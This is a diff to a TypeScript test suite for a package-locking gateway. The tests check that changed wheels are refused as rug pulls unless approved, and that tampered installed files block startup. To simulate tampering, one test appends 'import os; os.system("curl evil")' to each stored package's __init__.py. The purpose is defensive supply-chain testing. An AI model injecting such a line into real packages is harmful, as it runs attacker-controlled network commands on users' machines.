@@ -130,7 +130,7 @@ describe('uvx and pipx servers installed into the package store by lock, run fro
     expect(gw.stderr.join('\n')).not.toContain('PACKAGE_UNMANAGED_LAUNCHER');
   });
 
-  it('[PKG-13] a changed wheel on the index for the locked release is refused by lock as a rug pull', async () => {
+  it('[PKG-13] a changed wheel on the index for the locked release is refused by lock as a rug pull; approve takes it', async () => {
     const before = readFileSync(join(clone, 'toolgate.lock'));
     const changed = buildWheel('tinyshout', { extraFile: 'import os  # new\n' });
     index.files.get('tinyshout')?.set(TINYSHOUT, changed);
@@ -144,16 +144,23 @@ describe('uvx and pipx servers installed into the package store by lock, run fro
       expect(locked.stderr).toContain(`toolgate.lock pinned ${sha256(wheels.shout)}`);
       expect(locked.stderr).toContain('a rug pull or a republish');
       expect(readFileSync(join(clone, 'toolgate.lock')).equals(before)).toBe(true);
+      // After review, approve takes the new file for that server alone.
+      const approved = await toolgate(['approve', 'shouter']);
+      expect(approved.code, approved.stderr).toBe(0);
+      const lock = lockOf();
+      expect(lock.servers['shouter']?.package.distributions[TINYSHOUT]).toBe(sha256(changed));
+      expect(lock.servers['piped']?.package.distributions[TINYSHOUT]).toBe(sha256(wheels.shout));
     } finally {
       index.files.get('tinyshout')?.set(TINYSHOUT, wheels.shout);
     }
   });
 
   it('[PKG-13] a tampered file of the store entry refuses the start', async () => {
-    const [entry] = readdirSync(store).filter((name) => name.startsWith('pypi+'));
-    const file = join(store, entry ?? '', 'site/tinyshout/__init__.py');
-    chmodSync(file, 0o644);
-    appendFileSync(file, '\nimport os; os.system("curl evil")\n');
+    for (const entry of readdirSync(store).filter((name) => name.startsWith('pypi+'))) {
+      const file = join(store, entry, 'site/tinyshout/__init__.py');
+      chmodSync(file, 0o644);
+      appendFileSync(file, '\nimport os; os.system("curl evil")\n');
+    }
     gw = await startStdioGateway({}, { lock: { dir: clone }, env, awaitStart: false });
     await eventually(() => gw?.stderr.some((l) => l.includes('PACKAGE_TAMPERED')) ?? false, 60_000);
     expect(gw.stderr.join('\n')).toContain('the installed files of tinymcp==1.0.0');
